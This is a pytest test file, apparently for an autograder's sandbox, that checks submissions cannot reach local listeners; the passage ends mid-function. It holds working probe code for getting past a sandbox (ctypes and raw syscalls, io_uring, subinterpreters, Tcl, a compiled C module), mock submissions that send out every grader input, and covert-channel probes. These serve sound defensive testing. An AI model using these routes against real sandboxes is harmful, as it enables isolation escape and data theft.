"""No submission reaches the network or a UNIX socket outside its sandbox, by any route, whatever native code it runs.

Listeners on this machine (tests/listeners.py: UDP and TCP on 127.0.0.1, UNIX stream and datagram sockets by path
and by abstract name) wait for what a worker sends. A probe tries each route a submission found or could find:
the socket module, a datagram socket pair aimed at a path, the C library through ctypes (``socket`` and the raw
system call), io_uring (which makes sockets seccomp never sees), a subinterpreter (which has none of the guard's
audit hooks) and Tcl (which raises no audit event at all). It runs with the guard out of the way, as
test_sandbox's ``test_landlock_holds_where_the_guard_is_gone`` does, once with Landlock and once without, so that
the seccomp filter alone is what is tested; a control run without any kernel rule shows that each route is real
and the listeners hear it. Whole gradings (``python -m grader``, the guard on) of capstone submissions that send
every input they are given, by Tcl and by a compiled module written into scratch, score what an honest stub scores
and deliver nothing. Issue 40; the shared design "isolation", sections 1 and 5.
"""

import base64
import json
import os
import re
import shutil
import subprocess
import sys
import sysconfig

import pytest

from conftest import ROOT, run_grader
from listeners import Listeners, reach_every_listener

from grader.isolation import kernel_rules
from grader.isolation import sandbox as sandbox_module
from grader.isolation.limits import Limits
from grader.isolation.sandbox import Sandbox
from grader.isolation.transport_portable import portable_worker
from grader.judging.harness import Responder, Transcript
from grader.judging.scripted_models import NeverCorrects

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the kernel's rules are Linux's")
SECCOMP = pytest.mark.skipif(not kernel_rules.seccomp_available(),
                             reason="this kernel or architecture has no seccomp filter: the guard alone refuses sockets "
                                    "here (the filter's program is still tested, in test_seccomp_filter.py)")

UNGUARDED = sandbox_module.WORKER_SOURCE.replace("    sys.addaudithook(hook)", "    pass  # guard off for this test")

# Every route a submission has to a listener. Each entry answers "sent" or "refused: <why>"; a route this Python
# lacks answers "absent: <why>".
PROBE = r'''
import errno, json, os, socket

def attempt(action):
    try:
        action()
        return "sent"
    except ImportError as exc:
        return "absent: " + str(exc)
    except Exception as exc:
        return "refused: " + type(exc).__name__ + ": " + str(exc)[:120]

def udp(t):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"udp", ("127.0.0.1", t["udp_port"]))

def tcp(t):
    with socket.create_connection(("127.0.0.1", t["tcp_port"]), timeout=2) as s:
        s.sendall(b"tcp")

def unix(address, kind):
    with socket.socket(socket.AF_UNIX, kind) as s:
        if kind == socket.SOCK_STREAM:
            s.settimeout(2)
            s.connect(address)
            s.sendall(b"unix")
        else:
            s.sendto(b"unix", address)

def datagram_pair(t):
    first, second = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with first, second:
        first.sendto(b"pair", t["unix_dgram"])

def stream_pair(t):
    first, second = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    with first, second:
        first.sendall(b"ping")
        assert second.recv(4) == b"ping"
        try:
            first.sendto(b"pair", t["unix_dgram"])
        except OSError as exc:  # a connected stream socket ignores no address: EISCONN
            if exc.errno != errno.EISCONN:
                raise
    raise PermissionError("a stream pair works and reaches nothing outside")

def libc():
    import ctypes
    return ctypes, ctypes.CDLL(None, use_errno=True)

def sockaddr_in(ctypes, port):
    import struct
    return ctypes.create_string_buffer(struct.pack("<HH4s8x", socket.AF_INET, socket.htons(port),
                                                   socket.inet_aton("127.0.0.1")), 16)

def ctypes_socket(t, raw=False):
    ctypes, c = libc()
    fd = c.syscall(41 if os.uname().machine == "x86_64" else 198, 2, 2, 0) if raw else c.socket(2, 2, 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    address = sockaddr_in(ctypes, t["udp_port"])
    sent = c.sendto(fd, b"ctypes", 6, 0, address, 16)
    os.close(fd)
    if sent < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

def io_uring(t):
    ctypes, c = libc()
    params = ctypes.create_string_buffer(120)
    fd = c.syscall(425, 8, params)
    if fd < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.close(fd)  # a ring exists: IORING_OP_SOCKET would make a socket no filter sees

SUBINTERPRETER_CODE = """
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.sendto(b"subinterpreter", ("127.0.0.1", %d))
"""

def subinterpreter(t):
    import _xxsubinterpreters as interpreters
    interpreter = interpreters.create()
    try:
        interpreters.run_string(interpreter, SUBINTERPRETER_CODE % t["udp_port"])
    finally:
        interpreters.destroy(interpreter)

def testcapi_subinterpreter(t):
    import _testcapi
    marker = os.path.join(os.getcwd(), "subinterpreter.txt")
    status = _testcapi.run_in_subinterp(
        "try:\n" + "".join("    " + line + "\n" for line in (SUBINTERPRETER_CODE % t["udp_port"]).strip().splitlines())
        + "    outcome = 'sent'\nexcept Exception as exc:\n    outcome = type(exc).__name__\n"
        + "open(%r, 'w').write(outcome)\n" % marker)
    with open(marker) as handle:
        outcome = handle.read()
    if outcome != "sent":
        raise PermissionError("inside the subinterpreter: " + outcome)

def tcl(t):
    import tkinter
    interpreter = tkinter.Tcl()
    channel = interpreter.eval("socket 127.0.0.1 %d" % t["tcp_port"])
    interpreter.eval("puts %s tcl; close %s" % (channel, channel))

def handle(targets):
    t = targets
    return {
        "udp": attempt(lambda: udp(t)),
        "tcp": attempt(lambda: tcp(t)),
        "unix stream by path": attempt(lambda: unix(t["unix_stream"], socket.SOCK_STREAM)),
        "unix datagram by path": attempt(lambda: unix(t["unix_dgram"], socket.SOCK_DGRAM)),
        "abstract stream": attempt(lambda: unix("\0" + t["abstract_stream"], socket.SOCK_STREAM)),
        "abstract datagram": attempt(lambda: unix("\0" + t["abstract_dgram"], socket.SOCK_DGRAM)),
        "datagram socket pair to a path": attempt(lambda: datagram_pair(t)),
        "stream socket pair": attempt(lambda: stream_pair(t)),
        "ctypes socket": attempt(lambda: ctypes_socket(t)),
        "ctypes raw system call": attempt(lambda: ctypes_socket(t, raw=True)),
        "io_uring": attempt(lambda: io_uring(t)),
        "subinterpreter": attempt(lambda: subinterpreter(t)),
        "_testcapi subinterpreter": attempt(lambda: testcapi_subinterpreter(t)),
        "tcl": attempt(lambda: tcl(t)),
    }
'''


def probe(monkeypatch, targets, landlock=True, seccomp=True, code=PROBE, capabilities=None, namespaces=False):
    """Run ``code``'s ``handle(targets)`` (PROBE's by default) in a worker with the guard off; return its answers
    (dict: route -> str).

    ``landlock``/``seccomp`` False: that part of the kernel's plan is left out (the other rules stay as they are).
    ``capabilities``: whether the worker gives up root's capabilities (bool); by default only with both rules, so
    that a test of one wall alone is not passed by the kernel's capability checks instead. ``namespaces``: whether
    the worker enters its own user and network namespace (bool; off by default, so that each test of another
    wall tests that wall alone; the caller skips where ``kernel_rules.namespace_refusal()`` says why there are
    none)."""
    prepare = kernel_rules.prepare
    drop = landlock and seccomp if capabilities is None else capabilities

    def plan(scratch):
        full = prepare(scratch)
        assert not namespaces or full.namespaces, "the caller skips where this system has no namespaces"
        return full._replace(landlock=full.landlock if landlock else None,
                             seccomp=full.seccomp if seccomp else (None, None, []), capabilities=drop,
                             namespaces=full.namespaces if namespaces else None)

    monkeypatch.setattr(sandbox_module, "WORKER_SOURCE", UNGUARDED)
    monkeypatch.setattr(kernel_rules, "prepare", plan)
    sandbox = Sandbox(Limits(case_seconds=20.0))
    try:
        sandbox.begin_load([{"label": "probe.py", "kind": "file", "code": code}], ["handle"])
        assert sandbox.load().fatal is None
        outcome = sandbox.run("handle", [[targets]], {}, Responder(Transcript(), NeverCorrects("{}"), lambda n, a: "ok"))
    finally:
        sandbox.close()
    assert outcome.problem is None, outcome.problem
    return outcome.results[0]["result"]["plain"]


def routes_that_got_through(answers):
    """The routes of a probe's ``answers`` (dict: route -> str) that neither were refused nor are absent (dict)."""
    return {route: answer for route, answer in answers.items() if not answer.startswith(("refused", "absent"))}


@pytest.fixture
def listeners():
    """A fresh ``Listeners`` for one test (tests/listeners.py), closed and its folder removed after it."""
    with Listeners() as opened:
        yield opened


def test_the_listeners_hear_an_unconfined_process(listeners):
    """The control for every test below: nothing arriving means something only if these arrive."""
    reach_every_listener(listeners.targets)
    # A stream listener records the connection, then its bytes; a datagram listener the datagram.
    expected = Listeners.CONTROL
    assert listeners.wait_until_reached(expected) == expected
    assert [data for data in listeners.received["tcp"] if data] == [b"control"]


@SECCOMP
@pytest.mark.parametrize("landlock", [True, False], ids=["with Landlock", "seccomp alone"])
def test_no_route_reaches_a_listener_where_the_guard_is_gone(monkeypatch, listeners, landlock, transport):
    answers = probe(monkeypatch, listeners.targets, landlock=landlock)
    assert routes_that_got_through(answers) == {}
    assert listeners.nothing_reached() == {}
    # Each refusal is the kernel's (EPERM as PermissionError), not a route that was simply missing here.
    for route in ("udp", "tcp", "unix stream by path", "unix datagram by path", "abstract stream", "abstract datagram",
                  "datagram socket pair to a path", "ctypes socket", "ctypes raw system call", "io_uring"):
        assert answers[route].startswith("refused: PermissionError"), (route, answers[route])
    assert answers["stream socket pair"] == "refused: PermissionError: a stream pair works and reaches nothing outside"
    # The subinterpreter's own PermissionError, as this version's RunFailedError words it.
    assert answers["subinterpreter"].startswith("refused: RunFailedError") \
        and "PermissionError" in answers["subinterpreter"], answers["subinterpreter"]
    assert answers["_testcapi subinterpreter"] == "refused: PermissionError: inside the subinterpreter: PermissionError"
    if not answers["tcl"].startswith("absent"):
        assert answers["tcl"].startswith("refused: TclError"), answers["tcl"]


def test_each_route_is_real_without_the_kernel_s_rules(monkeypatch, listeners):
    """The same probe with neither the guard nor any kernel rule: what it sends arrives (the design's "sent"
    column), so the test above fails if the filter lets a route through. io_uring only makes its ring here."""
    answers = probe(monkeypatch, listeners.targets, landlock=False, seccomp=False)
    got_through = routes_that_got_through(answers)
    # Tcl and the subinterpreter modules differ by build and version (_xxsubinterpreters is _interpreters on 3.13);
    # a host may disable io_uring (kernel.io_uring_disabled). Every other route exists on every Linux.
    optional = {"tcl", "subinterpreter", "_testcapi subinterpreter", "io_uring"}
    missing = {route for route, answer in answers.items() if route in optional and answer != "sent"}
    expected = set(answers) - {"stream socket pair"} - missing
    assert set(got_through) == expected, answers
    assert answers["stream socket pair"] == "refused: PermissionError: a stream pair works and reaches nothing outside"
    # udp: the socket module, ctypes twice, two subinterpreters; unix_dgram: by path and through the datagram pair;
    # tcp: the socket module, then Tcl where it exists (each a connection and its bytes).
    least = {"udp": 3 + len(expected & {"subinterpreter", "_testcapi subinterpreter"}), "tcp": 4 if "tcl" in expected else 2, "unix_stream": 2, "unix_dgram": 2, "abstract_stream": 2,
             "abstract_dgram": 1}
    reached = listeners.wait_until_reached(least)
    assert all(reached.get(name, 0) >= count for name, count in least.items()), reached


NAMESPACE_REFUSAL = kernel_rules.namespace_refusal()
NAMESPACES = pytest.mark.skipif(bool(NAMESPACE_REFUSAL), reason=f"no user namespaces here: {NAMESPACE_REFUSAL}")


@NAMESPACES
def test_the_namespaces_alone_keep_the_network_from_a_worker(monkeypatch, listeners, transport):
    """Issue 42: the second wall holds without the first. With the guard off, no Landlock and no seccomp filter, a
    worker in its own user and network namespace reaches no listener on 127.0.0.1 ("network unreachable": its
    only device, lo, is down) and no abstract UNIX socket (they belong to a network namespace), by the socket
    module, the C library or a subinterpreter. A UNIX socket by path is still reached: the design measured that a
    network namespace does not cover it, which is why the seccomp filter and Landlock stay (the tests above)."""
    answers = probe(monkeypatch, listeners.targets, landlock=False, seccomp=False, capabilities=True, namespaces=True)
    unreachable = "refused: OSError: [Errno 101] Network is unreachable"
    assert {route: answers[route] for route in ("udp", "tcp", "ctypes socket", "ctypes raw system call")} == \
        dict.fromkeys(("udp", "tcp", "ctypes socket", "ctypes raw system call"), unreachable), answers
    assert answers["abstract stream"].startswith("refused: ConnectionRefusedError"), answers["abstract stream"]
    assert answers["abstract datagram"].startswith("refused: ConnectionRefusedError"), answers["abstract datagram"]
    if not answers["subinterpreter"].startswith("absent"):
        assert "Network is unreachable" in answers["subinterpreter"], answers["subinterpreter"]
    # What the namespace does not cover, stated so that a change shows: paths are the file system's.
    assert answers["unix stream by path"] == answers["unix datagram by path"] == "sent", answers
    reached = listeners.nothing_reached()
    assert set(reached) == {"unix_stream", "unix_dgram"}, reached


# Inside its own user namespace, without the filter, a worker made a nested one and held every capability there
# (issue 42's attacker trial: it brought lo up). The namespace's own limit is 0 now.
NESTED = r"""
import ctypes

def handle(targets):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000) != 0:
        return "refused: errno %d" % ctypes.get_errno()
    return "made"
"""


def proc_sys_read_only():
    """Whether /proc/sys is mounted read-only here (bool), as containers mount it: the worker cannot set its
    namespace's own limit there, and the seccomp filter's unshare rule is the wall (kernel_rules.enter_namespaces)."""
    try:
        with open("/proc/self/mounts", encoding="utf-8", errors="replace") as handle:
            mounts = [line.split() for line in handle]
    except OSError:
        return False
    return any(len(fields) > 3 and fields[1] == "/proc/sys" and "ro" in fields[3].split(",") for fields in mounts)


@NAMESPACES
@pytest.mark.skipif(proc_sys_read_only(), reason="/proc/sys is read-only here: the filter alone refuses nesting")
def test_a_worker_makes_no_namespace_inside_its_own(monkeypatch):
    answer = probe(monkeypatch, {}, landlock=False, seccomp=False, capabilities=True, namespaces=True, code=NESTED)
    assert answer == "refused: errno 28", answer  # ENOSPC: the namespace's limit of user namespaces is 0
    control = probe(monkeypatch, {}, landlock=False, seccomp=False, capabilities=True, namespaces=False, code=NESTED)
    assert control == "made", control  # the same code outside a namespace of the kit's: the route is real


# -- whole gradings: the guard on, every input sent by routes the guard does not see ------------------------------

# A capstone submission that sends every raw call the grader gives it (hidden ones included) to the listeners by
# Tcl, which raises no audit event, and returns nothing, as the shipped stub does.
TCL_SUBMISSION = r'''
import tkinter
TARGETS = %(targets)s
LOG = []
try:
    TCL = tkinter.Tcl()
except Exception as exc:
    TCL = None
    LOG.append("no Tcl: %%s" %% type(exc).__name__)

def send(text):
    if TCL is None:
        return
    try:
        channel = TCL.eval("socket 127.0.0.1 %%d" %% TARGETS["tcp_port"])
        TCL.eval("puts %%s {%%s}; close %%s" %% (channel, text.replace("{", "(").replace("}", ")")[:200], channel))
        LOG.append("sent")
    except Exception as exc:
        LOG.append("refused: %%s" %% type(exc).__name__)

send("loaded")
print("EXFILTRATION LOG:", sorted(set(LOG)))

def handle_tool_call(raw, ask_model):
    send(str(raw))
    return None
'''

# The same by native code written into scratch and loaded under a plain name: a module compiled for this test, whose
# send() opens a UDP socket, a UNIX datagram socket aimed at a path and a UNIX stream connection by path, in C.
NATIVE_SOURCE = r'''
#define PY_SSIZE_T_CLEAN
#include <Python.h>
#include <errno.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <unistd.h>

static PyObject *send_all(PyObject *self, PyObject *args) {
    const char *text, *dgram_path, *stream_path;
    Py_ssize_t size;
    int port;
    if (!PyArg_ParseTuple(args, "s#iss", &text, &size, &port, &dgram_path, &stream_path)) return NULL;
    int refused = 0, sent = 0;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (fd < 0) { refused++; } else {
        struct sockaddr_in to; memset(&to, 0, sizeof to);
        to.sin_family = AF_INET; to.sin_port = htons(port); to.sin_addr.s_addr = inet_addr("127.0.0.1");
        if (sendto(fd, text, size, 0, (struct sockaddr *)&to, sizeof to) >= 0) sent++; else refused++;
        close(fd);
    }
    struct sockaddr_un unix_to; memset(&unix_to, 0, sizeof unix_to); unix_to.sun_family = AF_UNIX;
    strncpy(unix_to.sun_path, dgram_path, sizeof unix_to.sun_path - 1);
    fd = socket(AF_UNIX, SOCK_DGRAM, 0);
    if (fd < 0) { refused++; } else {
        if (sendto(fd, text, size, 0, (struct sockaddr *)&unix_to, sizeof unix_to) >= 0) sent++; else refused++;
        close(fd);
    }
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) < 0) { refused++; } else {
        if (sendto(pair[0], text, size, 0, (struct sockaddr *)&unix_to, sizeof unix_to) >= 0) sent++; else refused++;
        close(pair[0]); close(pair[1]);
    }
    memset(unix_to.sun_path, 0, sizeof unix_to.sun_path);
    strncpy(unix_to.sun_path, stream_path, sizeof unix_to.sun_path - 1);
    fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0) { refused++; } else {
        if (connect(fd, (struct sockaddr *)&unix_to, sizeof unix_to) == 0 && write(fd, text, size) >= 0) sent++;
        else refused++;
        close(fd);
    }
    return Py_BuildValue("(ii)", sent, refused);
}

#include <fcntl.h>
#include <mqueue.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/xattr.h>

/* The channels besides sockets that issue 40's attacker used or could use: System V shared memory, message queues
   and semaphores, a POSIX message queue, and the metadata of a file outside scratch (its extended attributes,
   mode, times, owner), which Landlock does not govern. Returns a bit for each that worked, in that order. */
static PyObject *other_channels(PyObject *self, PyObject *args) {
    const char *text, *outside;
    Py_ssize_t size;
    int key, worked = 0;
    if (!PyArg_ParseTuple(args, "s#is", &text, &size, &key, &outside)) return NULL;
    int segment = shmget(key, 4096, IPC_CREAT | 0600);
    if (segment >= 0) {
        char *memory = shmat(segment, NULL, 0);
        if (memory != (void *)-1) { memcpy(memory, text, size < 4096 ? size : 4096); worked |= 1; shmdt(memory); }
    }
    if (msgget(key, IPC_CREAT | 0600) >= 0) worked |= 2;
    if (semget(key, 1, IPC_CREAT | 0600) >= 0) worked |= 4;
    char name[64];
    snprintf(name, sizeof name, "/kit-probe-%d", key);
    mqd_t posix_queue = mq_open(name, O_CREAT | O_WRONLY, 0600, NULL);
    if (posix_queue != (mqd_t)-1) { worked |= 8; mq_close(posix_queue); mq_unlink(name); }
    if (setxattr(outside, "user.kit_probe", text, size, 0) == 0) worked |= 16;
    if (chmod(outside, 0647) == 0) worked |= 32;
    struct timespec times[2] = {{1234567890, 0}, {1234567890, 0}};
    if (utimensat(AT_FDCWD, outside, times, 0) == 0) worked |= 64;
    if (chown(outside, getuid(), getgid()) == 0) worked |= 128;
    return PyLong_FromLong(worked);
}

/* Removes what other_channels made under key (the unconfined control's cleanup). */
static PyObject *remove_channels(PyObject *self, PyObject *args) {
    int key, id;
    if (!PyArg_ParseTuple(args, "i", &key)) return NULL;
    if ((id = shmget(key, 0, 0)) >= 0) shmctl(id, IPC_RMID, NULL);
    if ((id = msgget(key, 0)) >= 0) msgctl(id, IPC_RMID, NULL);
    if ((id = semget(key, 0, 0)) >= 0) semctl(id, 0, IPC_RMID);
    Py_RETURN_NONE;
}

static PyMethodDef methods[] = {{"send_all", send_all, METH_VARARGS, "send text everywhere"},
                                {"other_channels", other_channels, METH_VARARGS, "other ways out"},
                                {"remove_channels", remove_channels, METH_VARARGS, "clean up other_channels"},
                                {NULL, NULL, 0, NULL}};
static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "kit_native_probe", NULL, -1, methods};
PyMODINIT_FUNC PyInit_kit_native_probe(void) { return PyModule_Create(&module); }
'''

# What probe() calls in the two submissions above, run with the guard off: one more send, then the log.
TCL_HANDLE = NATIVE_HANDLE = """
def handle(targets):
    send("probe")
    return sorted(set(LOG))
"""

NATIVE_SUBMISSION = r'''
import _imp, base64, importlib.machinery, os
TARGETS = %(targets)s
LOG = []
try:
    path = os.path.join(os.getcwd(), "kit_native_probe.so")
    with open(path, "wb") as handle:
        handle.write(base64.b64decode(%(module)r))
    NATIVE = _imp.create_dynamic(importlib.machinery.ModuleSpec("kit_native_probe", None, origin=path))
except Exception as exc:
    NATIVE = None
    LOG.append("not loaded: %%s: %%s" %% (type(exc).__name__, exc))

def send(text):
    if NATIVE is not None:
        sent, refused = NATIVE.send_all(text[:200], TARGETS["udp_port"], TARGETS["unix_dgram"], TARGETS["unix_stream"])
        LOG.append("sent %%d refused %%d" %% (sent, refused))
        LOG.append("other channels %%d" %% NATIVE.other_channels(text[:200], TARGETS["key"], TARGETS["outside"]))

send("loaded")
print("EXFILTRATION LOG:", sorted(set(LOG)))

def handle_tool_call(raw, ask_model):
    send(str(raw))
    return None
'''


def native_module(folder):
    """Compile NATIVE_SOURCE with the C compiler into ``folder`` (str); return ``(bytes of the .so, None)``, or
    ``(None, why)`` (why: str) where there is no compiler or no Python headers, or the build failed (120 s bound)."""
    compiler = shutil.which(os.environ.get("CC", "cc")) or shutil.which("gcc")
    include = sysconfig.get_paths().get("include")
    if compiler is None or not include or not os.path.exists(os.path.join(include, "Python.h")):
        return None, "no C compiler or no Python headers here to build the native probe"
    source, target = os.path.join(folder, "probe.c"), os.path.join(folder, "probe.so")
    with open(source, "w", encoding="utf-8") as handle:
        handle.write(NATIVE_SOURCE)
    built = subprocess.run([compiler, "-shared", "-fPIC", "-O0", "-I", include, source, "-o", target, "-lrt"],
                           capture_output=True, text=True, timeout=120)
    if built.returncode != 0:
        return None, "the native probe did not compile: " + built.stderr[-300:]
    with open(target, "rb") as handle:
        return handle.read(), ""


def grade_capstone(tmp_path, source):
    """Grade ``source`` (str, a capstone submission) with ``python -m grader`` in ``tmp_path``; return the process
    (CompletedProcess) and the results (dict). Fails the test if the grader printed a traceback or wrote no results."""
    submission = tmp_path / "submission.py"
    submission.write_text(source, encoding="utf-8")
    process, results = run_grader(submission, "--exercise", "capstone", results=tmp_path / "results.json")
    assert "Traceback" not in process.stdout + process.stderr and results is not None, process.stderr[-2000:]
    return process, results


@pytest.fixture(scope="module")
def stub_score(tmp_path_factory):
    """What the shipped capstone stub scores (the score every exfiltrating submission below must get)."""
    stub = tmp_path_factory.mktemp("stub") / "stub.py"
    stub.write_text("def handle_tool_call(raw, ask_model):\n    return None\n", encoding="utf-8")
    _, results = run_grader(stub, "--exercise", "capstone", results=stub.parent / "results.json")
    return results["score"]


def test_a_graded_submission_that_sends_every_input_by_tcl_delivers_nothing(tmp_path, listeners, stub_score):
    """The guard refuses _tkinter (the allow-list of extension modules, issue 41): the submission fails at its import."""
    process, results = grade_capstone(tmp_path, TCL_SUBMISSION % {"targets": json.dumps(listeners.targets)})
    assert results["score"] == 0 <= stub_score
    assert listeners.nothing_reached() == {}
    assert re.search(r"the grader does not allow importing _tkinter|No module named '_tkinter'", process.stdout), \
        process.stdout[:2000]


@SECCOMP
@pytest.mark.parametrize("landlock", [True, False], ids=["with Landlock", "seccomp alone"])
def test_tcl_reaches_no_listener_where_the_guard_is_gone(monkeypatch, listeners, landlock, transport):
    """Past the guard (off here), Tcl's own socket command is refused by the kernel on both transports."""
    answers = probe(monkeypatch, listeners.targets, landlock=landlock,
                    code=TCL_SUBMISSION % {"targets": json.dumps(listeners.targets)} + TCL_HANDLE)
    if any("no Tcl" in line for line in answers):
        pytest.skip("this Python has no Tcl (tkinter): " + str(answers))
    assert listeners.nothing_reached() == {}
    assert answers == ["refused: TclError"], answers


def test_a_graded_submission_that_sends_every_input_from_native_code_delivers_nothing(tmp_path, listeners, stub_score):
    """The guard loads no extension module from outside the standard library's folder (issue 41): the compiled
    module written into scratch never loads, and nothing arrives."""
    module, why = native_module(str(tmp_path))
    if module is None:
        pytest.skip(why)
    source = NATIVE_SUBMISSION % {"targets": json.dumps({**listeners.targets, "key": 0, "outside": ""}),
                                  "module": base64.b64encode(module).decode("ascii")}
    process, results = grade_capstone(tmp_path, source)
    assert results["score"] == stub_score
    assert listeners.nothing_reached() == {}
    log = process.stdout.partition("EXFILTRATION LOG:")[2].partition("\n")[0]
    assert "not loaded: PermissionError: the grader does not allow importing kit_native_probe" in log, log


@SECCOMP
def test_native_code_past_the_guard_delivers_nothing_on_either_transport(monkeypatch, tmp_path, listeners, transport):
    """The same compiled module with the guard off: it loads, and the kernel refuses each of its four sends and
    every other channel it tries, on both transports (the portable one had no kernel rule before issue 41)."""
    module, why = native_module(str(tmp_path))
    if module is None:
        pytest.skip(why)
    outside = tmp_path / "outside.txt"  # a file outside scratch the worker may read, not change
    outside.write_text("untouched", encoding="utf-8")
    before = os.stat(outside)
    key = 0x4B000000 | (os.getpid() & 0xFFFFFF)  # a System V key of this test's own
    source = NATIVE_SUBMISSION % {"targets": json.dumps({**listeners.targets, "key": key, "outside": str(outside)}),
                                  "module": base64.b64encode(module).decode("ascii")}
    try:
        log = probe(monkeypatch, listeners.targets, code=source + NATIVE_HANDLE)
    finally:
        remove_system_v(module, key, tmp_path)  # what a regression would leave on this machine
    assert listeners.nothing_reached() == {}
    assert "sent 0 refused 4" in log, log  # the module loaded and each of its four sends was refused
    # No System V or POSIX IPC, extended attribute or owner (bits 1-16, 128); chmod and utimensat answer success
    # (32, 64) and change nothing, as the stat below shows.
    assert "other channels 96" in log, log
    after = os.stat(outside)
    assert (after.st_mode, after.st_mtime_ns, after.st_uid) == (before.st_mode, before.st_mtime_ns, before.st_uid)
    assert os.listxattr(outside) == []
    assert system_v_keys() & {key} == set()


def remove_system_v(module, key, folder):
    """Remove the System V objects of ``key`` (int) with the native probe's ``remove_channels``, loaded in a plain
    interpreter (the test's own process never loads it); a no-op when none exist."""
    if not system_v_keys() & {key}:
        return
    path = os.path.join(folder, "kit_native_cleanup.so")
    with open(path, "wb") as handle:
        handle.write(module)
    code = ("import _imp, importlib.machinery, sys\n"
            "_imp.create_dynamic(importlib.machinery.ModuleSpec('kit_native_probe', None, origin=sys.argv[1]))"
            ".remove_channels(int(sys.argv[2]))\n")
    subprocess.run([sys.executable, "-c", code, path, str(key)], capture_output=True, timeout=60)


def system_v_keys():
    """The keys of every System V segment, queue and semaphore set on this machine (set of int), from /proc/sysvipc."""
    keys = set()
    for kind in ("shm", "msg", "sem"):
        try:
            with open(f"/proc/sysvipc/{kind}", encoding="ascii") as handle:
                keys |= {int(line.split()[0]) for line in handle.readlines()[1:] if line.split()}
        except OSError:
            continue
    return keys


def test_the_native_probe_does_reach_the_listeners_unconfined(tmp_path, listeners):
    """The control for the native grading: loaded in a plain interpreter, the same module's sends arrive."""
    module, why = native_module(str(tmp_path))
    if module is None:
        pytest.skip(why)
    path = tmp_path / "kit_native_probe.so"
    path.write_bytes(module)
    code = ("import _imp, importlib.machinery, json, sys\n"
            "m = _imp.create_dynamic(importlib.machinery.ModuleSpec('kit_native_probe', None, origin=sys.argv[1]))\n"
            "t = json.loads(sys.argv[2])\n"
            "print(m.send_all('control', t['udp_port'], t['unix_dgram'], t['unix_stream']))\n"
            "try:\n"
            "    print(m.other_channels('control', t['key'], t['outside']))\n"
            "finally:\n"
            "    m.remove_channels(t['key'])\n")
    outside = tmp_path / "outside.txt"
    outside.write_text("changed by the control", encoding="utf-8")
    key = 0x4C000000 | (os.getpid() & 0xFFFFFF)
    targets = {**listeners.targets, "key": key, "outside": str(outside)}
    ran = subprocess.run([sys.executable, "-c", code, str(path), json.dumps(targets)], capture_output=True,
                         text=True, timeout=60, cwd=ROOT)
    assert ran.stdout.splitlines()[0] == "(4, 0)", ran.stderr
    # Every channel worked here (extended attributes only where this file system keeps user ones), and was removed.
    assert int(ran.stdout.splitlines()[1]) | 16 == 255, ran.stdout
    assert system_v_keys() & {key} == set()
    expected = {"udp": 1, "unix_dgram": 2, "unix_stream": 2}  # the pair's datagram, by path; a connection, its bytes
    assert listeners.wait_until_reached(expected) == expected


# -- what a correct submission uses still works under the filter, with the guard on --------------------------------


# -- other channels: System V IPC, metadata, file flags, the process name, other processes -------------------------

# Issue 40's attacker trial carried inputs out by each of these (all but F_SETOWN, tried here as the same kind).
# Each route answers "sent" when it worked, or "refused: <why>"; a mode or time change that returns success
# and changes nothing answers "refused: unchanged". Every route cleans up after itself, so that the control
# (no kernel rules) leaves nothing on this machine.
OTHER_PROBE = r'''
import ctypes, fcntl, os, signal, socket, struct, threading

def attempt(action):
    try:
        action()
        return "sent"
    except Exception as exc:
        return "refused: " + type(exc).__name__ + ": " + str(exc)[:120]

LIBC = ctypes.CDLL(None, use_errno=True)
IPC_CREAT, IPC_RMID = 0o1000, 0

def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result

def system_v(kind, key):
    if kind == "shm":
        LIBC.shmctl(checked(LIBC.shmget(key, 4096, IPC_CREAT | 0o600)), IPC_RMID, None)
    elif kind == "msg":
        LIBC.msgctl(checked(LIBC.msgget(key, IPC_CREAT | 0o600)), IPC_RMID, None)
    else:
        LIBC.semctl(checked(LIBC.semget(key, 1, IPC_CREAT | 0o600)), 0, IPC_RMID)

def changed(path, change, read, wanted):
    change()
    if read(os.stat(path)) != wanted:
        raise PermissionError("unchanged")

def immutable():
    with open("flagged.txt", "w") as handle:
        flags = struct.pack("l", 0x10)  # FS_IMMUTABLE_FL, through FS_IOC_SETFLAGS
        fcntl.ioctl(handle.fileno(), 0x40086602, flags)
        fcntl.ioctl(handle.fileno(), 0x40086602, struct.pack("l", 0))

def reserve():
    fd = os.open("reserved.bin", os.O_WRONLY | os.O_CREAT, 0o600)  # in scratch, where writing is allowed
    try:
        checked(LIBC.fallocate(fd, 0, ctypes.c_long(0), ctypes.c_long(1 << 20)))
    finally:
        os.close(fd)

def unlistable(mode, mask):
    LIBC.umask(mask)
    checked(LIBC.mkdir(b"hidden-%o-%o" % (mode, mask), mode))
    if os.stat("hidden-%o-%o" % (mode, mask)).st_mode & 0o700 == 0o700:
        raise PermissionError("unchanged")

def sigio_owner(parent):
    first, second = socket.socketpair()  # a stream pair: allowed
    with first, second:
        fcntl.ioctl(first.fileno(), 0x8901, struct.pack("i", parent))  # FIOSETOWN; no FIOASYNC, so no signal

def name():
    checked(LIBC.prctl(15, b"kit-leak", 0, 0, 0))
    buffer = ctypes.create_string_buffer(16)
    checked(LIBC.prctl(16, buffer, 0, 0, 0))
    if buffer.value != b"kit-leak":
        raise PermissionError("unchanged")

def nice(pid):
    ctypes.set_errno(0)
    value = LIBC.getpriority(0, pid)  # PRIO_PROCESS
    if value == -1 and ctypes.get_errno():
